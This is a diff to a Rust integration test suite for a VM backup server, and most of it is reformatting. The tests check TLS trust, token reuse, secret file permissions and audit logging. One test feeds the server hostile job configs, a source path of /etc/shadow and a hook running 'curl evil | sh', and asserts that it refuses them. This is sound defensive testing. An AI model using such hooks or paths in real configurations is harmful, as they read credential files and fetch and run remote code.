@@ -303,7 +303,8 @@ fn identities_reach_only_their_jobs() {
         &args(&ca, &["--token-file", wrong.to_str().unwrap(), "status"]),
     );
     assert!(stderr(&out).contains("world-readable"), "{}", stderr(&out));
-    // https without a CA, and plaintext against the TLS port.
+    // https without --ca: the system's trust store, which lacks the test
+    // CA (the error says how to give one); plaintext against the TLS port.
     let out = client(
         &server,
         &["--token-file", s.token_file(0).to_str().unwrap(), "status"],
@@ -558,17 +559,28 @@ fn insecure_configurations_are_refused() {
     // The same token under two identities (it would give one the other's
     // rights).
     let twice = s.config("").replace(
-        &format!("admin: {{role: admin, token-hash: '{}'}}", hash_token(&s.tokens[3].0).unwrap()),
-        &format!("admin: {{role: admin, token-hash: '{}'}}", hash_token(&s.tokens[0].0).unwrap()),
+        &format!(
+            "admin: {{role: admin, token-hash: '{}'}}",
+            hash_token(&s.tokens[3].0).unwrap()
+        ),
+        &format!(
+            "admin: {{role: admin, token-hash: '{}'}}",
+            hash_token(&s.tokens[0].0).unwrap()
+        ),
     );
     let e = server_refuses(d, &twice, 0o600);
-    assert!(e.contains("clients: admin and hv01 have the same token-hash"), "{e}");
+    assert!(
+        e.contains("clients: admin and hv01 have the same token-hash"),
+        "{e}"
+    );
     // What a hypervisor reads and runs is not the server's to say.
     for hostile in [
         "vm1: {schedule: none, client: hv01, source: {type: file, path: /etc/shadow}}",
         "vm1: {schedule: none, client: hv01, hooks: {pre-snapshot: 'curl evil | sh'}}",
     ] {
-        let config = s.config("").replace("vm1: {schedule: none, client: hv01}", hostile);
+        let config = s
+            .config("")
+            .replace("vm1: {schedule: none, client: hv01}", hostile);
         let e = server_refuses(d, &config, 0o600);
         assert!(
             e.contains("job vm1: `source:` and `hooks:` moved to the hypervisor's client.yaml")
@@ -579,13 +591,17 @@ fn insecure_configurations_are_refused() {
     }
     // Group-readable secrets only for the group the operator names.
     let e = server_refuses(d, &s.config(""), 0o640);
-    assert!(e.contains("open to its group") && e.contains("secrets-group"), "{e}");
+    assert!(
+        e.contains("open to its group") && e.contains("secrets-group"),
+        "{e}"
+    );
     let group = Command::new("id").arg("-gn").output().unwrap();
     let group = String::from_utf8_lossy(&group.stdout).trim().to_string();
     let shared = d.join("shared.yaml");
     std::fs::write(
         &shared,
-        format!("{}secrets-group: {group}\n", s.config("")).replace("BASE", d.join("store").to_str().unwrap()),
+        format!("{}secrets-group: {group}\n", s.config(""))
+            .replace("BASE", d.join("store").to_str().unwrap()),
     )
     .unwrap();
     std::fs::set_permissions(&shared, std::fs::Permissions::from_mode(0o640)).unwrap();
@@ -593,7 +609,11 @@ fn insecure_configurations_are_refused() {
         .args(["--config", shared.to_str().unwrap(), "check-config"])
         .output()
         .unwrap();
-    assert!(out.status.success(), "0640 with secrets-group {group}: {}", stderr(&out));
+    assert!(
+        out.status.success(),
+        "0640 with secrets-group {group}: {}",
+        stderr(&out)
+    );
     // A good config passes check-config, naming the storage it found.
     let good = d.join("good.yaml");
     std::fs::write(
@@ -943,14 +963,21 @@ fn system_trust_store_server_name_and_url_checks() {
     let other = Ca::new("someone else");
     let other_file = d.join("other-ca.pem");
     std::fs::write(&other_file, &other.pem).unwrap();
-    refused(status_with(&other_file, &[]), "system store without the CA", "certificate");
+    refused(
+        status_with(&other_file, &[]),
+        "system store without the CA",
+        "certificate",
+    );
 
     // A server certificate for a name only: reached by address, the name
     // is given with --tls-server-name.
     let (cert, key, _) = s.ca.sign(&["backup01.example"], false, false);
     std::fs::write(d.join("named.pem"), cert).unwrap();
     write_secret(&d.join("named.key"), &key);
-    let config = s.config("").replace("server.pem", "named.pem").replace("server.key", "named.key");
+    let config = s
+        .config("")
+        .replace("server.pem", "named.pem")
+        .replace("server.key", "named.key");
     let named = Server::start_config(&d.join("store2"), &config);
     let status_named = |extra: &[&str]| {
         let mut all = as_who(&s, 0);
@@ -958,8 +985,15 @@ fn system_trust_store_server_name_and_url_checks() {
         all.extend_from_slice(&["status", "vm1"]);
         client(&named, &all)
     };
-    refused(status_named(&[]), "address without the certificate's name", "certificate");
-    ok(status_named(&["--tls-server-name", "backup01.example"]), "--tls-server-name");
+    refused(
+        status_named(&[]),
+        "address without the certificate's name",
+        "certificate",
+    );
+    ok(
+        status_named(&["--tls-server-name", "backup01.example"]),
+        "--tls-server-name",
+    );
 
     for (url, why) in [
         ("htp://127.0.0.1:1", "neither http nor https"),
@@ -989,20 +1023,47 @@ fn every_request_kind_is_audited() {
     let server = Server::start_config(&d.join("store"), &s.config(""));
     let hv01 = as_who(&s, 0);
     let src = img.to_str().unwrap();
-    ok(client(&server, &args(&hv01, &["push", "vm1", "--source", src])), "push");
+    ok(
+        client(&server, &args(&hv01, &["push", "vm1", "--source", src])),
+        "push",
+    );
     write_at(&img, 2 * MIB, &[7; 4096]);
-    ok(client(&server, &args(&hv01, &["push", "vm1", "--source", src])), "second push");
+    ok(
+        client(&server, &args(&hv01, &["push", "vm1", "--source", src])),
+        "second push",
+    );
     let target = d.join("restored.img");
     ok(
-        client(&server, &args(&hv01, &["restore", "vm1", target.to_str().unwrap()])),
+        client(
+            &server,
+            &args(&hv01, &["restore", "vm1", target.to_str().unwrap()]),
+        ),
         "restore",
     );
     ok(client(&server, &args(&hv01, &["verify", "vm1"])), "verify");
-    ok(client(&server, &args(&hv01, &["tags", "vm1", "add", "manual:keep"])), "tags");
-    ok(client(&server, &args(&hv01, &["distrust", "vm1", "--dry-run"])), "distrust");
-    ok(client(&server, &args(&hv01, &["forget", "vm1", "-r", "1"])), "forget");
+    ok(
+        client(
+            &server,
+            &args(&hv01, &["tags", "vm1", "add", "manual:keep", "-r", "latest"]),
+        ),
+        "tags",
+    );
+    ok(
+        client(
+            &server,
+            &args(&hv01, &["distrust", "vm1", "-r", "latest", "--dry-run"]),
+        ),
+        "distrust",
+    );
+    ok(
+        client(&server, &args(&hv01, &["forget", "vm1", "-r", "1"])),
+        "forget",
+    );
     refused(
-        client(&server, &args(&as_who(&s, 1), &["restore", "vm1", d.join("x").to_str().unwrap()])),
+        client(
+            &server,
+            &args(&as_who(&s, 1), &["restore", "vm1", d.join("x").to_str().unwrap()]),
+        ),
         "hv02 restoring vm1",
         "PERMISSION_DENIED",
     );
@@ -1024,7 +1085,12 @@ fn every_request_kind_is_audited() {
                     && l.contains(&format!("outcome={outcome}"))
                     && l.contains("peer=127.0.0.1:")
             })
-            .unwrap_or_else(|| panic!("no audit line for {identity} {action} {outcome}:\n{}", lines.join("\n")))
+            .unwrap_or_else(|| {
+                panic!(
+                    "no audit line for {identity} {action} {outcome}:\n{}",
+                    lines.join("\n")
+                )
+            })
             .clone()
     };
     let push = find("hv01", "push", "ok");
@@ -1036,7 +1102,8 @@ fn every_request_kind_is_audited() {
     find("hv01", "distrust --dry-run", "ok");
     find("hv01", "forget", "ok");
     find("hv01", "agent connect hv01", "ok");
-    let denied = find("hv02", "RestoreRequest", "failed");
+    // The restore's first request, for the manifest, is refused.
+    let denied = find("hv02", "manifest", "failed");
     assert!(denied.contains("may not access job vm1"), "{denied}");
     for line in server.log_lines(0) {
         for (t, _) in &s.tokens {
